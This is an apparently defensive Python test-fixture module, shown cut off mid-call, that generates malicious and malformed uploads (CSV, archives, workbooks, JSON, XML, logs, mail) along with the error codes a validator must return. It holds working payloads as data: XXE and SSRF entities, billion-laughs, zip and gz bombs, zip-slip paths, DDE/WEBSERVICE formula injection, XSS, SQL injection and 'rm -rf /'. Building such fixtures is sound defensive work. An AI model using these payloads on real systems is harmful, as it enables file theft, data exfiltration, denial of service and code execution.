"""Files that mean harm or are broken in ways seen in the field: each with the code it must be refused by.

`Case.code` "" means: it comes through as text, for the contract checks to judge. Nothing here is larger than 30 MB on disk,
but for one line of 200 MB.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter

GOOD = "tinh,nam,diem\n" + "".join(f"{i:02},2018,{i % 10}.5\n" for i in range(1, 60))
UTF8 = GOOD.encode()


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    code: str
    file: str
    kind: str = ""  # the kind the source declares

    def __str__(self) -> str:
        return self.name


CASES: list[Case] = []


def case(name: str, file: str, code: str, content: bytes | Callable[[], bytes], kind: str = "") -> None:
    make = content if callable(content) else lambda: content  # type: ignore[return-value]  # narrowed by callable
    CASES.append(Case(name, make, code, file, kind))


def zipped(members: dict[str, bytes], **about: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = about.get("mode", 0o644) << 16
            box.writestr(info, data)
    return out.getvalue()


def flagged(data: bytes, flag: int) -> bytes:
    """The same zip with a general purpose flag set in every header."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(mark)
        while start >= 0:
            out[start + at] |= flag
            start = out.find(mark, start + 4)
    return bytes(out)


def gz_zeros(megabytes: int) -> bytes:
    """A gz of so many MB of the letter a, made of repeated small members."""
    return gzip.compress(b"a" * (16 << 20), 9) * (megabytes // 16)


def lying_zip(size: int) -> bytes:
    """A zip whose directory claims `size` bytes for its member."""
    data = bytearray(zipped({"a.csv": UTF8}))
    at = data.find(b"PK\x01\x02")
    data[at + 20 : at + 28] = struct.pack("<II", size // 50 if size > 100 else 60, size)
    return bytes(data)


def book(fill: Callable[[xlsxwriter.Workbook], None]) -> bytes:
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out, {"in_memory": True})
    fill(made)
    made.close()
    return out.getvalue()


def plain_book() -> bytes:
    def fill(made: xlsxwriter.Workbook) -> None:
        sheet = made.add_worksheet("Diem")
        sheet.write_row(0, 0, ["Tỉnh", "Năm", "Điểm"])
        for row in range(1, 40):
            sheet.write_row(row, 0, [f"{row:02}", 2018, row / 4])

    return book(fill)


def with_part(part: str, change: Callable[[bytes], bytes]) -> bytes:
    """A good workbook with one part changed (or added, when `change` makes it of nothing)."""
    source, out = zipfile.ZipFile(io.BytesIO(plain_book())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, change(source.read(name)) if name == part else source.read(name))
        if part not in source.namelist():
            target.writestr(part, change(b""))
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
    + b"]>"
)


def doctype(dtd: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"?>", b"?>" + dtd, 1)


def far_cell(xml: bytes) -> bytes:
    return xml.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


def ole(entry: str) -> bytes:
    """The beginning of an OLE container with one directory entry: enough to tell what it is."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    return head.ljust(1024, b"\xff") + entry.encode("utf-16-le").ljust(128, b"\x00") + b"\x00" * 4096


def parquet() -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table({"tinh": ["01", "02"], "diem": [1.5, 2.0]}), out)
    return out.getvalue()


def _empty_parquet() -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table({"a": pa.array([], pa.string())}), out)
    return out.getvalue()


def parquet_claiming() -> bytes:
    """The footer's row count replaced by a huge one (thrift varint of num_rows)."""
    data = bytearray(parquet())
    length = struct.unpack("<I", data[-8:-4])[0]
    footer = bytes(data[-8 - length : -8])
    wrong = footer.replace(b"\x16\x04", b"\x16\xfe\xff\xff\xff\xff\xff\x7f")
    return bytes(data[: -8 - length]) + wrong + struct.pack("<I", len(wrong)) + b"PAR1"


def garbled(data: bytes, step: int) -> bytes:
    out = bytearray(data)
    for at in range(60, len(out) - 30, step):
        out[at] ^= 0x5A
    return bytes(out)


def rows(*lines: str) -> bytes:
    return ("tinh,nam,diem\n" + "\n".join(lines) + "\n").encode()


# text files -------------------------------------------------------------------------------------------------------
case("empty", "a.csv", "empty-file", b"")
case("white space only", "a.csv", "empty-file", b" \r\n\t\n  \n")
case("zero bytes only", "a.csv", "empty-file", b"\x00" * 100_000)
case("BOM only", "a.csv", "empty-file", b"\xef\xbb\xbf")
case("only the heading", "a.csv", "no-rows", b"tinh,nam,diem\n")
case("only the heading, no line end", "a.csv", "no-rows", b"tinh,nam,diem")
case("heading and blank rows", "a.csv", "no-rows", b"tinh,nam,diem\n,,\n,,\n\n")
case("10 M columns in the heading", "a.csv", "too-many-columns", lambda: b"c1," * 10_000_000 + b"\n1,2,3\n")
case("3,000 columns", "a.csv", "too-many-columns", ",".join(f"c{i}" for i in range(3000)).encode() + b"\n1\n")
case("200,000 columns", "a.csv", "too-many-columns", b"a," * 200_000 + b"\n1,2\n")
case("a line of 1 GB", "a.csv.gz", "archive-bomb", lambda: gz_zeros(1024))
case("a first line of 12 MB", "a.csv", "line-too-long", lambda: b"x" * (12 << 20))
case("a line of 12 MB in the middle", "a.csv", "line-too-long", lambda: UTF8 + b"y" * (12 << 20) + b"\n" + UTF8)
case("a cell of 3 MB", "a.csv", "cell-too-long", lambda: UTF8 + b'"' + b"z" * (3 << 20) + b'",2018,1\n')
case("a quote never closed", "a.csv", "quote-not-closed", UTF8 + b'"60,2018,5\n61,2018,6\n')
case(
    "a quote never closed in a large file", "a.csv", "cell-too-long", lambda: UTF8 + b'"60,2018,5\n' + UTF8[14:] * 4000
)
case("quotes in the middle of cells", "a.csv", "", rows('01,20"18,5', '02,2018,"5"x', "03,2018,7"))
case("zero bytes in the text", "a.csv", "nul-bytes", UTF8.replace(b"2018", b"20\x0018"))
case("zero byte at the end", "a.csv", "nul-bytes", UTF8 + b"60,2018,\x00\n")
case("zero byte far into the file", "a.csv", "nul-bytes", lambda: UTF8 * 2000 + b"60,20\x0018,1\n")
case("random bytes", "a.csv", "unknown-format", bytes((i * 7919 + i // 3) % 251 + 1 for i in range(5000)))
case(
    "UTF-8 with Latin bytes late",
    "a.csv",
    "mixed-encoding",
    ("tinh,ten,so\n" + "01,Lạng Sơn,5\n" * 900).encode() + b"02,L\xe2m \xd0\xf4ng,6\n",
)
case(
    "UTF-8 cut in a letter",
    "a.csv",
    "mixed-encoding",
    ("tinh,ten,so\n" + "01,Lạng Sơn,5\n" * 900).encode() + "02,1,ạ".encode()[:-1],
)
case("UTF-16 cut in a letter", "a.csv", "mixed-encoding", GOOD.encode("utf-16")[:-1])
case("UTF-16 without BOM", "a.csv", "", GOOD.encode("utf-16-le"))
case("UTF-16 big endian", "a.csv", "", b"\xfe\xff" + GOOD.encode("utf-16-be"))
case("CP1252 bytes", "a.csv", "", "tinh,ten,so\n01,café Zürich,1\n02,naïve,2\n".encode("cp1252"))
case(
    "mojibake",
    "a.csv",
    "",
    "tinh,ten\n01,Tỉnh Lạng Sơn\n02,Thành phố Hồ Chí Minh\n".encode().decode("latin-1").encode(),
)
case("old Mac line ends", "a.csv", "", GOOD.replace("\n", "\r").encode())
case("mixed line ends", "a.csv", "", GOOD.replace("\n", "\r\n", 20).encode())
case("mixed separators", "a.csv", "no-heading", b"tinh,nam,diem\n" + b"01;2018;5;6,7,8,9\n" * 60)
case(
    "separators change half way",
    "a.csv",
    "mixed-separators",
    b"tinh,nam,diem\n" + b"01,2018,5\n" * 70 + b"01;2018;5\t1|2,3,,4,1,1,1\n" * 90,
)
case("ragged rows", "a.csv", "", rows("01,2018,5", "02,2018", "03,2018,5,6,7", "04,2018,5", "05"))
case(
    "title and notes",
    "a.csv",
    "",
    b"BANG DIEM THI 2018,,\nDon vi: diem,,\ntinh,nam,diem\n01,2018,5\n02,2018,6\nGhi ch\xc3\xba: so lieu so bo,,\n",
)
case("duplicate headings", "a.csv", "", b"tinh,diem,diem\n01,5,6\n")
case("duplicate known headings", "a.csv", "heading-twice", b"ma_tinh,so_luong,So luong\n01,5,6\n")
case("empty headings", "a.csv", "no-heading", b",,\n01,5,6\n02,5,6\n")
case("direction marks in headings", "a.csv", "", "tinh\u202e,\u2066nam\u2069,diem\u200b\n01,2018,5\n".encode())
case("control characters in headings", "a.csv", "", b"ti\x1bnh,nam,diem\n01,2018,5\n02,2018,5\n03,2018,9\n")
case("impossible dates", "a.csv", "", rows("01,31/02/2018,5", "02,2018-13-45,5", "03,00/00/0000,5"))
case("numbers in words", "a.csv", "", rows("01,2018,năm phẩy hai", "02,2018,mười"))
case("NaN and Infinity", "a.csv", "", rows("01,2018,NaN", "02,2018,Infinity", "03,2018,1e999"))
case(
    "formulas", "a.csv", "", rows("01,2018,=cmd|' /C calc'!A0", "02,2018,@SUM(1+1)*cmd", "03,2018,+1+1", "04,2018,-2+3")
)
case("script in a cell", "a.csv", "", rows("01,2018,<script>alert(1)</script>", "02,2018,'; drop table runs; --"))
case("a name that is a path", "../../etc/passwd.csv", "", UTF8)
case("only separators", "a.csv", "empty-file", b",,,,\n,,,,\n")
case("one word", "a.txt", "no-rows", b"hello")
case("numbers without headings", "a.csv", "no-heading", b"01,2018,5\n02,2018,6\n03,2018,7\n")
case("prose", "a.txt", "", "Kính gửi: Ủy ban nhân dân tỉnh\nCăn cứ Luật Thống kê\nBáo cáo như sau\n".encode())

# what is no table -------------------------------------------------------------------------------------------------
for kind, magic in {
    "PDF": b"%PDF-1.7\n1 0 obj\n", "PNG": b"\x89PNG\r\n\x1a\n", "JPEG": b"\xff\xd8\xff\xe0", "GIF": b"GIF89a", "exe": b"MZ\x90\x00\x03",
    "ELF": b"\x7fELF\x02\x01", "RAR": b"Rar!\x1a\x07\x00", "7z": b"7z\xbc\xaf\x27\x1c", "SQLite": b"SQLite format 3\x00",
    "RTF": b"{\\rtf1\\ansi", "script": b"#!/bin/sh\nrm -rf /\n",
}.items():  # fmt: skip
    case(f"{kind} named .csv", "a.csv", "not-a-table-file", magic + b"\x00\x01content" * 50)
case(
    "Word document named .csv",
    "a.csv",
    "not-a-table-file",
    zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}),
)
case(
    "Word document named .xlsx",
    "a.xlsx",
    "not-a-table-file",
    zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}),
)
case("slides named .xlsx", "a.xlsx", "not-a-table-file", zipped({"[Content_Types].xml": b"<a/>", "ppt/a.xml": b"<a/>"}))
case("old Word document", "a.xls", "not-a-table-file", ole("WordDocument"))
case("tar", "a.tar", "not-a-table-file", b"a.csv".ljust(257, b"\x00") + b"ustar\x0000" + b"x" * 600)

# archives ---------------------------------------------------------------------------------------------------------
BOX = zipped({"a.csv": UTF8 * 50, "b.csv": UTF8 * 60})
case("half a zip", "diem.zip", "cut-short", BOX[: len(BOX) // 2])
case("a zip cut in its directory", "diem.zip", "cut-short", BOX[:-30])
case("a zip of four bytes", "diem.zip", "cut-short", b"PK\x03\x04")
case("an empty zip", "diem.zip", "empty-archive", zipped({}))
case("a zip of an empty folder", "diem.zip", "empty-archive", zipped({"a/": b""}))
case("a zip of Mac litter", "diem.zip", "empty-archive", zipped({"__MACOSX/._a.csv": b"x", ".DS_Store": b"y"}))
case("a garbled zip", "diem.zip", "damaged-member", garbled(BOX[:700], 40) + BOX[700:])
case("a zip with a password", "diem.zip", "password-archive", flagged(BOX, 1))
case("a zip in a zip", "diem.zip", "nested-archive", zipped({"b.zip": BOX}))
case("a gz in a zip", "diem.zip", "nested-archive", zipped({"b.csv.gz": gzip.compress(UTF8)}))
case("path up in a zip", "diem.zip", "unsafe-path", zipped({"../../etc/cron.d/a.csv": UTF8}))
case("absolute path in a zip", "diem.zip", "unsafe-path", zipped({"/etc/a.csv": UTF8}))
case("drive letter in a zip", "diem.zip", "unsafe-path", zipped({"C:\\Windows\\a.csv": UTF8}))
case("backslashes up in a zip", "diem.zip", "unsafe-path", zipped({"a\\..\\..\\b.csv": UTF8}))
case("a link in a zip", "diem.zip", "link-in-archive", zipped({"a.csv": b"/etc/passwd"}, mode=0o120777))
case(
    "two members of one name",
    "diem.zip",
    "member-twice",
    zipped({"a.csv": UTF8, "b.csv": UTF8}).replace(b"b.csv", b"a.csv"),
)
case("5,000 members", "diem.zip", "too-many-members", lambda: zipped({f"{i}.csv": b"a,b\n1,2\n" for i in range(5000)}))
case("a zip bomb", "diem.zip", "archive-bomb", lambda: zipped({"a.csv": b"0" * (64 << 20)}))
case("a zip that claims 3.9 GB", "diem.zip", "unpacks-too-large", lying_zip(3_900_000_000))
case("a zip that claims too little", "diem.zip", "damaged-member", lying_zip(10))
case(
    "a zip with a picture",
    "diem.zip",
    "not-a-table-file",
    zipped({"a.csv": UTF8, "b.csv": b"\x89PNG\r\n\x1a\n" + b"x" * 99}),
)
case("a zip with an empty file", "diem.zip", "empty-file", zipped({"a.csv": UTF8, "b.csv": b""}))
case("a gz cut short", "a.csv.gz", "cut-short", gzip.compress(UTF8 * 100)[:-20])
case("a gz of its head only", "a.csv.gz", "cut-short", gzip.compress(UTF8)[:10])
case("a garbled gz", "a.csv.gz", "damaged-archive", garbled(gzip.compress(UTF8 * 100), 9))
case("a gz with a wrong sum", "a.csv.gz", "damaged-archive", gzip.compress(UTF8)[:-8] + b"\x00" * 8)
case("a gz bomb", "a.csv.gz", "archive-bomb", lambda: gz_zeros(256))
case("a gz in a gz", "a.csv.gz.gz", "nested-archive", gzip.compress(gzip.compress(UTF8)))
case("a gz of nothing", "a.csv.gz", "empty-file", gzip.compress(b""))
case("a gz of a PDF", "a.csv.gz", "not-a-table-file", gzip.compress(b"%PDF-1.4 ..."))
case("raw deflate named .gz", "a.csv.gz", "unknown-format", zlib.compress(UTF8 * 9) * 5)

# workbooks --------------------------------------------------------------------------------------------------------
case("laughing XML", "a.xlsx", "unsafe-xml", lambda: with_part(SHEET, doctype(LAUGHS)))
case(
    "external entity",
    "a.xlsx",
    "unsafe-xml",
    lambda: with_part("xl/sharedStrings.xml", doctype(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
)
case("DTD in the workbook part", "a.xlsx", "unsafe-xml", lambda: with_part("xl/workbook.xml", doctype(b"<!DOCTYPE a>")))
case(
    "DTD far into a part",
    "a.xlsx",
    "unsafe-xml",
    lambda: with_part(SHEET, lambda xml: xml + b" " * (9 << 20) + b"<!DOCTYPE a>"),
)
case("a part in UTF-16", "a.xlsx", "unsafe-xml", lambda: with_part(SHEET, lambda xml: xml.decode().encode("utf-16")))
case("a part of 300 MB", "a.xlsx", "archive-bomb", lambda: with_part("xl/media/a.bin", lambda _: b"\x00" * (64 << 20)))
case("a cell in the last corner", "a.xlsx", "sheet-too-large", lambda: with_part(SHEET, far_cell))
case("a dimension that lies", "a.xlsx", "", lambda: with_part(SHEET, lambda x: x.replace(b"A1:C40", b"A1:XFD1048576")))
case("a sheet that ends early", "a.xlsx", "no-table", lambda: with_part(SHEET, lambda xml: xml[:300]))
case("no workbook part", "a.xlsx", "damaged-file", zipped({"[Content_Types].xml": b"<Types/>", "xl/a.xml": b"<a/>"}))
case("half a workbook", "a.xlsx", "damaged-file", lambda: plain_book()[:3000])
case("a garbled workbook", "a.xlsx", "damaged-file", lambda: garbled(plain_book()[:-1500], 97) + plain_book()[-1500:])
case("macros", "a.xlsm", "", lambda: with_part("xl/vbaProject.bin", lambda _: b"\x00" * 100))
case("a workbook with a password", "a.xlsx", "password-workbook", ole("EncryptedPackage"))
case("an .xls of its head only", "a.xls", "damaged-file", ole("Workbook"))
case("an OLE container of something else", "a.xls", "damaged-file", ole("Something"))
case("a BIFF stream garbled", "a.xls", "damaged-file", b"\x09\x08\x10\x00" + bytes(i % 256 for i in range(4000)))
case("an empty workbook", "a.xlsx", "no-table", lambda: book(lambda made: made.add_worksheet("Trang 1")))
case("formulas in a workbook", "a.xlsx", "", lambda: book(_formulas))
case("shared formulas, many", "a.xlsx", "", lambda: book(_many_formulas))
case(
    "a million sheets claimed",
    "a.xlsx",
    "too-many-sheets",
    lambda: book(lambda made: [made.add_worksheet() for _ in range(300)] and None),
)
case("a page saved as .xls", "a.xls", "", b"<html><table><tr><th>tinh<th>diem</tr><tr><td>01<td>5</tr></table></html>")
case("a page without a table", "a.xls", "page-without-table", b"<html><body>404 Not Found</body></html>")
case(
    "a page with a huge span",
    "a.xls",
    "sheet-too-large",
    b"<table>" + b"<tr><td colspan=99999 rowspan=99999>a<td>b</tr>" * 50 + b"</table>",
)
case("a page of a million tables", "a.xls", "too-many-sheets", lambda: b"<html>" + b"<table>" * 1_000_000)
case(
    "a page with nested tags",
    "a.xls",
    "",
    lambda: b"<table><tr><th>a<th>b</tr>" + b"<div>" * 100_000 + b"<tr><td>1<td>2</tr></table>",
)


def _formulas(made: xlsxwriter.Workbook) -> None:
    sheet = made.add_worksheet("a")
    sheet.write_row(0, 0, ["tinh", "diem"])
    sheet.write_string(1, 0, "=cmd|' /C calc'!A0")
    sheet.write_formula(1, 1, '=WEBSERVICE("http://example.test/"&A1)', None, "5")
    sheet.write_string(2, 0, "@SUM(A1)")
    sheet.write_number(2, 1, -7)


def _many_formulas(made: xlsxwriter.Workbook) -> None:
    sheet = made.add_worksheet("a")
    sheet.write_row(0, 0, ["tinh", "diem"])
    for row in range(1, 5000):
        sheet.write_string(row, 0, f"{row}")
        sheet.write_formula(row, 1, "=REPT(A1,32767)&" * 20 + "1", None, 1)


# JSON, Parquet ----------------------------------------------------------------------------------------------------
case("JSON too deep", "a.json", "nested-too-deep", b"[" * 200_000 + b"]" * 200_000)
case("JSON objects too deep", "a.json", "nested-too-deep", b'[{"a":' + b'{"a":' * 60 + b"1" + b"}" * 61 + b"]")
case("JSON with NaN", "a.json", "json-not-a-number", b'[{"a": NaN}]')
case("JSON with Infinity", "a.json", "json-not-a-number", b'[{"a": -Infinity}]')
case("JSON with a huge number", "a.json", "number-too-long", b'[{"a": ' + b"9" * 5000 + b"}]")
case("JSON with a huge exponent", "a.json", "", b'[{"a": 1e999999}]')
case("JSON with a key twice", "a.json", "json-key-twice", b'[{"a": 1, "a": 2}]')
case("JSON not UTF-8", "a.json", "json-not-utf8", b'[{"a": "L\xe2m \xd0\xf4ng"}]')
case("JSON cut short", "a.json", "json-broken", b'[{"a": 1}, {"a": 2')
case("JSON with a comma too many", "a.json", "json-broken", b'[{"a": 1},]')
case("JSON of numbers", "a.json", "json-row-no-object", b"[1, 2, 3]")
case("JSON of nothing", "a.json", "no-rows", b"[]")
case("JSON of an empty object", "a.json", "no-rows", b"{}")
case("JSON with two lists", "a.json", "json-several-tables", b'{"a": [{"x": 1}], "b": [{"x": 1}]}')
case("JSON with 5,000 keys", "a.json", "too-many-columns", json.dumps([{f"k{i}": i for i in range(5000)}]).encode())
case("JSON with surrogates", "a.json", "", b'[{"a": "\\ud800x", "b": "\\u0000"}]')
case("JSON Lines with a broken line", "a.jsonl", "json-broken", b'{"a": 1}\n{"a": 2\n{"a": 3}\n')
case("JSON Lines with an array", "a.jsonl", "json-row-no-object", b'{"a": 1}\n{"a": 2}\n[1]\n')
case("Parquet cut short", "a.parquet", "cut-short", lambda: parquet()[:-40])
case("Parquet of its head only", "a.parquet", "damaged-file", b"PAR1")
case("Parquet with a wrong footer", "a.parquet", "damaged-file", lambda: parquet()[:-8] + b"\xff\xff\xff\x7fPAR1")
case("Parquet with a garbled footer", "a.parquet", "damaged-file", lambda: garbled(parquet()[:-8], 7) + parquet()[-8:])
case("Parquet that claims many rows", "a.parquet", "sheet-too-large", parquet_claiming)
case("Parquet with no rows", "a.parquet", "no-rows", _empty_parquet)

# XML of running systems -------------------------------------------------------------------------------------------
QUADRATIC = b'<!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]><a><b>' + b"&x;" * 20_000 + b"</b></a>"
ROWS = b"<ds><r><a>1</a></r><r><a>2</a></r></ds>"
for kind in ("xml", "bhyt", "edxml", "feed"):
    root = {"xml": b"l", "bhyt": b"GIAMDINHHS", "edxml": b"edXML", "feed": b"rss"}[kind]
    body = b"<" + root + b">&i;</" + root + b">"
    mark = {"edxml": b"<!-- edXML -->", "bhyt": b"<!-- GIAMDINHHS -->", "feed": b"<!-- <rss -->"}.get(kind, b"")
    case(f"{kind}: laughing", "a.xml", "unsafe-doctype", mark + LAUGHS + body, kind)
    for what, dtd in {
        "a file": b'<!DOCTYPE a [<!ENTITY i SYSTEM "file:///etc/passwd">]>',
        "an address": b'<!DOCTYPE a [<!ENTITY i SYSTEM "http://127.0.0.1:9/">]>',
        "a parameter entity": b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>',
        "a default attribute": b'<!DOCTYPE a [<!ATTLIST a x CDATA "y">]>',
    }.items():
        case(f"{kind}: an entity of {what}", "a.xml", "unsafe-doctype", mark + dtd + body, kind)
case("quadratic blow-up", "a.xml", "unsafe-doctype", QUADRATIC, "xml")
case("an entity never declared", "a.xml", "xml-broken", b"<a><b>&x;</b></a>", "xml")
case(
    "a DTD behind a long comment",
    "a.xml",
    "unsafe-doctype",
    b"<!--" + b" " * 300_000 + b"-->" + LAUGHS + b"<a/>",
    "xml",
)
case("a DTD in UTF-16", "a.xml", "unsafe-doctype", (LAUGHS.decode() + "<a/>").encode("utf-16"), "xml")
case(
    "a DTD in UTF-16 without its mark", "a.xml", "not-that-kind", (LAUGHS.decode() + "<a/>").encode("utf-16-le"), "xml"
)
case(
    "a DTD in UTF-7",
    "a.xml",
    "xml-encoding",
    b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>',
    "xml",
)
case("two DTDs", "a.xml", "unsafe-doctype", b"<!DOCTYPE a><!DOCTYPE a [<!ENTITY b 'c'>]><a/>", "xml")
case(
    "an include",
    "a.xml",
    "",
    b'<a><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></r></a>',
    "xml",
)
case(
    "a style sheet's address",
    "a.xml",
    "",
    b'<?xml-stylesheet href="http://127.0.0.1:9/x.xsl" type="text/xsl"?>' + ROWS,
    "xml",
)
case("XML too deep", "a.xml", "xml-too-deep", b"<a>" * 100_000 + b"</a>" * 100_000, "xml")
case("XML a little too deep", "a.xml", "xml-too-deep", b"<a>" * 40 + b"</a>" * 40, "xml")
case("an attribute of 28 MB", "a.xml", "xml-too-large", lambda: b'<a><r x="' + b"y" * (28 << 20) + b'"/></a>', "xml")
case("an attribute of 2 MB", "a.xml", "xml-too-large", lambda: b'<a><r x="' + b"y" * (2 << 20) + b'"/></a>', "xml")
case("a text of 28 MB", "a.xml", "xml-too-large", lambda: b"<a><r>" + b"y" * (28 << 20) + b"</r></a>", "xml")
case("a text of 2 MB", "a.xml", "cell-too-long", lambda: b"<a><r><b>" + b"y" * (2 << 20) + b"</b></r></a>", "xml")
case("a name of 2 MB", "a.xml", "xml-broken", lambda: b"<a><" + b"y" * (2 << 20) + b"/></a>", "xml")
case(
    "5,000 attributes",
    "a.xml",
    "too-many-columns",
    b"<a><r " + b" ".join(b'a%d="1"' % i for i in range(5000)) + b"/></a>",
    "xml",
)
case("an attribute twice", "a.xml", "xml-broken", b'<a><r x="1" x="2"/></a>', "xml")
case(
    "5,000 names of children",
    "a.xml",
    "too-many-columns",
    b"<a><r>" + b"".join(b"<a%d/>" % i for i in range(5000)) + b"</r></a>",
    "xml",
)
case("XML cut short", "a.xml", "xml-broken", ROWS[:20], "xml")
case("XML of nothing", "a.xml", "no-rows", b"<a/>", "xml")
case("XML with zero bytes", "a.xml", "xml-broken", ROWS.replace(b"2", b"\x00"), "xml")
case("a page for XML", "a.xml", "not-that-kind", b"<html><body>Log in</body></html>", "json")
case("a PDF for XML", "a.xml", "not-a-table-file", b"%PDF-1.7 ...", "bhyt")
case(
    "Excel 2003 as XML",
    "a.xml",
    "not-a-table-file",
    b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
    "xml",
)
case("a path up in a zip of envelopes", "a.zip", "unsafe-path", zipped({"../a.xml": ROWS}), "bhyt")
case(
    "a link in a zip of envelopes", "a.zip", "link-in-archive", zipped({"a.xml": b"/etc/passwd"}, mode=0o120777), "bhyt"
)
case("a zip in a zip of envelopes", "a.zip", "nested-archive", zipped({"a.zip": zipped({"a.xml": ROWS})}), "bhyt")
case("a bomb for an envelope", "a.zip", "archive-bomb", lambda: zipped({"a.xml": b"<a>" + b" " * (64 << 20)}), "bhyt")


def enveloped(content: bytes) -> bytes:
    return (
        b"<GIAMDINHHS><THONGTINHOSO><DANHSACHHOSO><HOSO><FILEHOSO><LOAIHOSO>XML1</LOAIHOSO><NOIDUNGFILE>"
        + content
        + b"</NOIDUNGFILE></FILEHOSO></HOSO></DANHSACHHOSO></THONGTINHOSO></GIAMDINHHS>"
    )


case("an envelope of 28 MB of base64", "a.xml", "xml-too-large", lambda: enveloped(b"QUFB" * (7 << 20)), "bhyt")
case("an envelope of 9 MB of base64 of nothing", "a.xml", "", lambda: enveloped(b"QUFB" * (9 << 18)), "bhyt")
case("an envelope of laughs", "a.xml", "", lambda: enveloped(base64.b64encode(LAUGHS + b"<a>&i;</a>")), "bhyt")
case("an envelope of a zip", "a.xml", "", lambda: enveloped(base64.b64encode(zipped({"a.xml": ROWS}))), "bhyt")
case("an envelope of depth", "a.xml", "", lambda: enveloped(base64.b64encode(b"<a>" * 200_000)), "bhyt")
case(
    "an envelope of elements",
    "a.xml",
    "",
    lambda: enveloped(base64.b64encode(b"<T>" + b"<a/>" * 300_000 + b"</T>")),
    "bhyt",
)
case("a document of a million elements", "a.edxml", "xml-too-deep", lambda: b"<edXML>" + b"<a/>" * 1_000_000, "edxml")
case("a document of depth", "a.edxml", "xml-too-deep", b"<edXML>" + b"<a>" * 1000, "edxml")
case("a subject of 2 MB", "a.edxml", "xml-too-large", b"<edXML><MessageHeader><Subject>" + b"x" * (2 << 20), "edxml")

# lines, feeds, mail -----------------------------------------------------------------------------------------------
EVENT = b'{"timestamp": "2026-11-22T10:15:00", "event_type": "alert", "x": "'
STATION = b"CO\t1\tmg/l\t20261122101500\t00\n"
case("an EVE line of 200 MB", "eve.json", "line-too-long", lambda: EVENT + b"y" * (200 << 20), "eve")
case("an EVE line too deep", "eve.json", "", EVENT + b'"}\n' + EVENT + b'", "y": ' + b"[" * 100_000 + b"\n", "eve")
case(
    "an EVE event too deep",
    "eve.json",
    "nested-too-deep",
    EVENT + b'", "y": ' + b'{"a":' * 40 + b"1" + b"}" * 41 + b"\n",
    "eve",
)
case(
    "EVE with 5,000 keys",
    "eve.json",
    "too-many-columns",
    EVENT[:-6] + b", ".join(b'"k%d": 1' % i for i in range(5000)) + b"}\n",
    "eve",
)
case("EVE of random lines", "eve.json", "too-many-broken", EVENT + b'"}\n' + b"x\n" * 30_000, "eve")
case(
    "a station line without end",
    "LS_1_20261122101500.txt",
    "line-too-long",
    lambda: STATION + b"CO\t" * (4 << 20),
    "station",
)
case("a station file of zero bytes", "LS_1_20261122101500.txt", "nul-bytes", STATION + b"\x00" * 99, "station")
case("a station file of nonsense", "LS_1_20261122101500.txt", "too-many-broken", b"x\n" * 30_000, "station")
case(
    "CEF with a million keys",
    "a.log",
    "line-too-long",
    lambda: b"CEF:0|V|P|1|2|n|3|" + b" ".join(b"k%d=1" % i for i in range(1_000_000)),
    "syslog",
)
case(
    "CEF with 60,000 keys",
    "a.log",
    "",
    b"CEF:0|V|P|1|2|n|3|" + b" ".join(b"k%d=1" % i for i in range(60_000)),
    "syslog",
)
case("CEF of backslashes", "a.log", "", b"CEF:0|V|P|1|2|n|3|a=b\nCEF:0|" + b"\\" * 900_000 + b"\n", "syslog")
case(
    "CEF with other keys in every line",
    "a.log",
    "too-many-columns",
    b"".join(b"CEF:0|V|P|1|2|n|3|k%d=1\n" % i for i in range(3000)),
    "syslog",
)
case(
    "structured data of quotes",
    "a.log",
    "",
    b'<14>1 - h a - - - x\n<14>1 - h a - - [a b="' + b'"' * 500_000 + b"\n",
    "syslog",
)
case(
    "a feed of scripts",
    "a.rss",
    "",
    b"<rss><channel><item><title>x<script>alert(1)</script></title></item></channel></rss>",
    "feed",
)
case("a feed of items in items", "a.rss", "", b"<rss><channel>" + b"<item><title>x</title>" * 5_000, "feed")
case(
    "a feed of broken marks",
    "a.rss",
    "",
    b"<rss><channel><item><title>" + b"<![CDATA[" * 100_000 + b"</title></item>",
    "feed",
)
case("a feed of 20 MB", "a.rss", "file-too-large", lambda: b"<rss><channel>" + b" " * (20 << 20), "feed")
MAIL = b"From: a@b.example\nSubject: x\n"
case("a mail of 100,000 headers", "a.eml", "mail-too-many-headers", MAIL + b"X-A: y\n" * 100_000 + b"\nx", "email")
case(
    "a mail of one long header",
    "a.eml",
    "mail-too-many-headers",
    MAIL + b"X-A: " + b"y" * (1 << 20) + b"\n\nx",
    "email",
)
case(
    "a mail of mails in mails", "a.eml", "mail-too-many-parts",
    MAIL + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(5000)), "email",
)  # fmt: skip
case(
